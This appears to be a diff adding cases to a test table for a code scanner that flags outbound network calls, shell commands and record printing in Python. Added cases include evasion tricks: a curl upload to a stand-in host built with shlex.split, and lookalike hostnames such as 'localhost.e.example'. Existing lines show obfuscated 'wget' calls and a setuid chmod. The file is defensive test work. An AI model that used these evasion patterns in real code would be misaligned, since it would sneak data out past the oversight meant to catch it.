@@ -42,6 +42,9 @@ TOLD = {
         "http",
     ),
     "partial": ("import requests, functools\nf = functools.partial(requests.post, u)\nf()", "http"),
+    "kept in a dict": ("import requests\nways = {'a': requests.post}\nways[name](u)", "http"),
+    "one after another": ("import os\nfor run in (os.system, os.popen):\n    run(x)", "command"),
+    "a default": ("import requests\ndef f(send=requests.post):\n    send(u)", "http"),
     "getattr": ("import os\ngetattr(os, 'sys' + 'tem')('wget http://e.example')", "command"),
     "subclass": ("import requests\nclass S(requests.Session):\n    pass\nS().post(u)", "http"),
     "__getattribute__": ("import os\nos.__getattribute__('sys' + 'tem')('wget http://e.example')", "command"),
@@ -64,6 +67,7 @@ TOLD = {
     "cffi": ("from cffi import FFI\nffi = FFI()\nffi.dlopen(None)", "native"),
     "IPv6": ("import socket\ns = socket.socket(socket.AF_INET6)\ns.connect(('2001:db8::1', 80))", "socket"),
     "list of words": ("import subprocess as s, sys\ns.run([sys.executable, '-m', 'pip', 'install', 'x'])", "install"),
+    "split words": ("import shlex, subprocess\nsubprocess.run(shlex.split('curl -T x http://e.example'))", "command"),
     "python -c": ("import subprocess\nsubprocess.run(['python3', '-c', 'import smtplib; smtplib.SMTP(h)'])", "mail"),
     "execvp": ("import os\nos.execvp('curl', ['curl', 'http://e.example'])", "command"),
     "tracking": ("import mlflow\nmlflow.set_tracking_uri('https://mlflow.e.example')", "tracker"),
@@ -77,6 +81,7 @@ TOLD = {
     "print": ("import pandas as pd\ndf = pd.read_csv('x')\nprint('rows', df[df.age > 3].head())", "prints-records"),
     "f-string": ("import pandas as pd\ndf = pd.read_csv('x')\nprint(f'{df}')", "prints-records"),
     "rows": ("import csv\nfor row in csv.reader(open('x')):\n    print(row)", "prints-records"),
+    "counted rows": ("import numpy as np\nfor i, row in enumerate(np.load('x')):\n    print(row)", "prints-records"),
     "split": (
         "import numpy as np\nfrom sklearn.model_selection import train_test_split\nX = np.load('x')\n"
         "a, b = train_test_split(X)\nprint(a[:5])",
@@ -105,6 +110,13 @@ TOLD = {
     "shared memory": ("open('/dev/shm/x', 'ab')", "write-outside"),
     "os.open": ("import os\nos.open('/var/x', os.O_CREAT | os.O_WRONLY)", "write-outside"),
     "descriptor": ("import os\nos.fdopen(7, 'wb').write(b'x')", "inherited"),
+    "named like this machine": ("import requests\nrequests.post('http://localhost.e.example')", "http"),
+    "user named like it": ("import requests\nrequests.post('http://localhost:1@e.example')", "http"),
+    "read from such a name": ("import pandas as pd\npd.read_csv('http://127.0.0.1.e.example/x.csv')", "download"),
+    "unknown address, known text": ("import requests\nrequests.post(url, 'localhost')", "http"),
+    "gateway": ("from prometheus_client import push_to_gateway\npush_to_gateway(x, job='j')", "http"),
+    "asserted": ("import pandas as pd\ndf = pd.read_csv('x')\nassert df.empty, f'{df}'", "prints-records"),
+    "stream": ("import pandas as pd, sys\ndf = pd.read_csv('x')\ndf.to_csv(sys.stdout)", "prints-records"),
     "setuid": ("import os\nos.chmod('x', 0o4755)", "privilege"),
 }  # fmt: skip
 
@@ -115,6 +127,7 @@ SILENT = {
     "own name": "import socket\nsocket.gethostbyname(socket.gethostname())",
     "session alone": "import requests\nrequests.Session()",
     "type": "import requests\ndef f(r: requests.Response):\n    return r.status_code",
+    "asked for one of": "import paramiko as p\nisinstance(x, (p.SSHClient, p.Transport))",
     "asked": "import requests\nisinstance(x, requests.Session)\nissubclass(y, requests.post)",
     "shadowed": "def f(requests):\n    requests.get('x')",
     "another's get": "config.get('http://x')\ncache.post(1)",
@@ -137,6 +150,13 @@ SILENT = {
     "weights": "import torch\ntorch.save({'model': m.state_dict()}, 'outputs/x.pt')",
     "env": "import torch.distributed as d\nd.init_process_group('gloo', init_method='env://')",
     "docstring": "'''Asks 169.254.169.254 and /var/run/docker.sock.'''",
+    "ports and queries": "import requests\nrequests.get(f'http://localhost:{port}/x')\nrequests.get('http://[::1]?x')",
+    "what is expected": "import pandas as pd\ndf = pd.read_csv('x')\nassert len(df), f'{df.shape}'",
+    "means to the log": "import pandas as pd, sys\npd.read_csv('x').groupby('a').mean().to_csv(sys.stdout)",
+    "numbers of rows": (
+        "import numpy as np\nX = np.load('x')\nfor i, row in enumerate(X):\n    print(i)\n"
+        "[print(i) for i, row in enumerate(X)]"
+    ),
     "sqlite": "import sqlalchemy\nsqlalchemy.create_engine('sqlite:///x')",
 }  # fmt: skip
 
